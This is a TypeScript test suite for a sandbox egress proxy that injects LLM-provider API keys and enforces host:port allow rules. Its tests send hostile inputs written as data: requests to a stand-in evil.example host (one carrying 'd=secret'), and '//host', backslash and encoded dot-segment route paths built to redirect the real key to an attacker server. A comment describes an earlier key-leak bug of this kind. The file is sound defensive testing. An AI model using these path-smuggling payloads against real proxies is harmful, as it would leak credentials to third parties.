// The egress proxy on its own (a real unix socket, real upstreams on
// loopback): routes add the key and drop the sandbox's, CONNECT and
// absolute-form http go through only where a rule names host:port, and every
// request is one log line with no header value and no body.
import { mkdtempSync, readFileSync } from 'node:fs'
import http from 'node:http'
import net, { type AddressInfo } from 'node:net'
import os from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { describeDenied, type EgressProxy, readEgressLog, routeTarget, startEgressProxy } from '../src/sandbox/egress-proxy.js'
import { allowedBy, deriveNetworkPolicy, parseEgressEntry, shownPolicy } from '../src/sandbox/network-policy.js'

const KEY = 'sk-egress-test-key-0123456789'

/** One HTTP request over the proxy's unix socket; the raw response text. */
function raw(socketPath: string, request: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const c = net.connect(socketPath, () => c.write(request))
    let out = ''
    c.on('data', (d) => {
      out += d.toString('latin1')
      if (request.startsWith('CONNECT') && out.includes('\r\n\r\n')) c.end()
    })
    c.on('end', () => resolve(out))
    c.on('error', reject)
  })
}

describe('egress proxy', () => {
  let upstream: http.Server
  let port = 0
  const seen: { url: string; auth?: string; placeholder?: string }[] = []
  let proxy: EgressProxy
  let log = ''
  beforeAll(async () => {
    upstream = http.createServer((req, res) => {
      seen.push({ url: req.url ?? '', auth: req.headers.authorization, placeholder: req.headers['x-api-key'] as string | undefined })
      res.end('upstream-body\n')
    })
    await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', () => r()))
    port = (upstream.address() as AddressInfo).port
    const dir = mkdtempSync(path.join(os.tmpdir(), 'odf-egress-test-'))
    log = path.join(dir, 'egress.jsonl')
    const policy = deriveNetworkPolicy({
      providers: ['openai'],
      upstreams: { openai: `http://127.0.0.1:${port}/v1` },
      allow: [parseEgressEntry(`127.0.0.1:${port}`)],
    })
    proxy = await startEgressProxy({ socketPath: path.join(dir, 'egress.sock'), logFile: log, policy, keys: { OPENAI_API_KEY: KEY } })
  })
  afterAll(async () => {
    await proxy?.close()
    await new Promise((r) => upstream?.close(r))
  })

  it('a route forwards to its upstream with the real key, the placeholder dropped', async () => {
    const r = await raw(
      proxy.socketPath,
      'POST /r/openai/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer placeholder\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}',
    )
    expect(r).toMatch(/^HTTP\/1.1 200/)
    expect(seen.at(-1)).toMatchObject({ url: '/v1/chat/completions', auth: `Bearer ${KEY}` })
  })

  it('CONNECT to a host:port no rule names is refused', async () => {
    const r = await raw(proxy.socketPath, 'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n')
    expect(r).toMatch(/^HTTP\/1.1 403/)
  })

  it('absolute-form http: refused unless allowed; an allowed one reaches its host', async () => {
    const denied = await raw(proxy.socketPath, 'GET http://evil.example:8080/x?d=secret HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n')
    expect(denied).toMatch(/^HTTP\/1.1 403/)
    const ok = await raw(proxy.socketPath, `GET http://127.0.0.1:${port}/ok HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`)
    expect(ok).toMatch(/^HTTP\/1.1 200/)
    expect(seen.at(-1)?.url).toBe('/ok')
  })

  it('an origin-form request that is no route is refused', async () => {
    const r = await raw(proxy.socketPath, 'GET /r/nope/x HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n')
    expect(r).toMatch(/^HTTP\/1.1 403/)
  })

  it('the log: one line each, destinations and verdicts, bytes, never a header value, a key or a query', async () => {
    await new Promise((r) => setTimeout(r, 100))
    const text = readFileSync(log, 'utf8')
    expect(text).not.toContain(KEY)
    expect(text).not.toContain('placeholder')
    expect(text).not.toContain('secret')
    const entries = readEgressLog(log)
    expect(entries.map((e) => [e.kind, e.dest, e.allowed])).toEqual([
      ['route', `127.0.0.1:${port}`, true],
      ['connect', 'evil.example:443', false],
      ['http', 'evil.example:8080', false],
      ['http', `127.0.0.1:${port}`, true],
      ['other', 'bridge', false],
    ])
    expect(entries[0].bytes_in).toBeGreaterThan(0)
    expect(describeDenied(entries)).toHaveLength(3)
  })

  it('rules compare exact hosts and ports; entries are checked', () => {
    const p = deriveNetworkPolicy({ providers: [], allow: [parseEgressEntry('registry.npmjs.org')] })
    expect(allowedBy(p, 'registry.npmjs.org', 443)).toBeDefined()
    expect(allowedBy(p, 'x.registry.npmjs.org', 443)).toBeUndefined()
    expect(allowedBy(p, 'registry.npmjs.org', 80)).toBeUndefined()
    expect(() => parseEgressEntry('*.example.com')).toThrow(/HOST\[:PORT\]/)
    expect(() => parseEgressEntry('a.example:99999')).toThrow(/HOST\[:PORT\]/)
  })
})

// Hostile probe A (session 7): the route's target was resolved as a URL against the upstream, so with an
// upstream that has no path (deepseek's default, https://api.deepseek.com) a rest of `//host/x` or `/\host`
// named another host — which was sent the real key. Now the rest is appended as text, and the target must
// keep the upstream's origin and stay under its base path.
describe('egress proxy: a route never leaves its upstream', () => {
  const servers: http.Server[] = []
  const got: { who: string; url: string; auth?: string }[] = []
  const ports: Record<string, number> = {}
  let proxy: EgressProxy
  let log = ''
  beforeAll(async () => {
    for (const who of ['provider', 'attacker']) {
      const s = http.createServer((req, res) => {
        got.push({ who, url: req.url ?? '', auth: req.headers.authorization })
        res.end('ok\n')
      })
      await new Promise<void>((r) => s.listen(0, '127.0.0.1', () => r()))
      ports[who] = (s.address() as AddressInfo).port
      servers.push(s)
    }
    const dir = mkdtempSync(path.join(os.tmpdir(), 'odf-egress-route-'))
    log = path.join(dir, 'egress.jsonl')
    const policy = deriveNetworkPolicy({
      providers: ['deepseek', 'openai'],
      upstreams: { deepseek: `http://127.0.0.1:${ports.provider}`, openai: `http://127.0.0.1:${ports.provider}/v1` },
      allow: [],
    })
    proxy = await startEgressProxy({ socketPath: path.join(dir, 'egress.sock'), logFile: log, policy, keys: { DEEPSEEK_API_KEY: KEY, OPENAI_API_KEY: KEY } })
  })
  afterAll(async () => {
    await proxy?.close()
    for (const s of servers) await new Promise((r) => s.close(r))
  })

  const get = (target: string) => raw(proxy.socketPath, `GET ${target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`)

  it('//host, /\\host and dot segments (raw or encoded) never reach another host, nor leave the base path; the key goes nowhere else', async () => {
    const a = `127.0.0.1:${ports.attacker}`
    for (const t of [
      `/r/deepseek//${a}/headers`,
      `/r/deepseek/\\${a}/x`,
      `/r/deepseek/\\\\${a}/x`,
      '/r/openai/../../x',
      '/r/openai/%2e%2e/x',
      '/r/openai/.%2E/x',
      '/r/deepseek/./x',
    ])
      await get(t)
    expect(got.filter((g) => g.who === 'attacker')).toEqual([])
    // What reached the provider stayed on it, under its base path where it has one.
    for (const g of got) expect(g.url.startsWith('//') || g.url.startsWith('/v1/') || !g.url.includes('..')).toBe(true)
    expect(got.filter((g) => g.url.includes('..') || /%2e/i.test(g.url))).toEqual([])
    const refused = readEgressLog(log).filter((e) => !e.allowed)
    expect(refused.length).toBeGreaterThanOrEqual(6)
    expect(readFileSync(log, 'utf8')).not.toContain(KEY)
  })

  it('a plain route still works, and a doubled slash is a path on the upstream', async () => {
    const before = got.length
    expect(await get('/r/openai/chat/completions?x=1')).toMatch(/^HTTP\/1.1 200/)
    expect(await get('/r/deepseek//chat/completions')).toMatch(/^HTTP\/1.1 200/)
    expect(got.slice(before)).toEqual([
      { who: 'provider', url: '/v1/chat/completions?x=1', auth: `Bearer ${KEY}` },
      { who: 'provider', url: '//chat/completions', auth: `Bearer ${KEY}` },
    ])
  })

  it('routeTarget: the reasons', () => {
    expect(routeTarget('https://api.deepseek.com', '//evil.example/x')).toBeInstanceOf(URL)
    expect((routeTarget('https://api.deepseek.com', '//evil.example/x') as URL).host).toBe('api.deepseek.com')
    expect(routeTarget('https://api.deepseek.com', '/\\evil.example/x')).toMatch(/backslash/)
    expect(routeTarget('https://api.openai.com/v1', '/../x')).toMatch(/dot segment/)
    expect(routeTarget('https://api.openai.com/v1', '/%2E%2e/x')).toMatch(/dot segment/)
    expect(routeTarget('https://api.openai.com/v1', '/a b')).toMatch(/space/)
    expect(String(routeTarget('https://u:p@gw.example/base', '/chat?q=1'))).toBe('https://u:p@gw.example/base/chat?q=1')
  })
})

describe('the policy as the ledger records it (policy.json)', () => {
  it("shows each route's upstream without user info, query or fragment (a gateway's credentials); the proxy keeps the real one", () => {
    const policy = deriveNetworkPolicy({
      providers: ['openai'],
      upstreams: { openai: 'https://gwuser:gw-secret-0a1b2c3d@gw.example/v1?token=tok-9f8e#x' },
      allow: [],
    })
    const shown = shownPolicy(policy)
    expect(shown.routes[0].upstream).toBe('https://***@gw.example/v1')
    expect(JSON.stringify(shown)).not.toMatch(/gw-secret|gwuser|tok-9f8e/)
    expect(policy.routes[0].upstream).toContain('gw-secret-0a1b2c3d')
  })
})
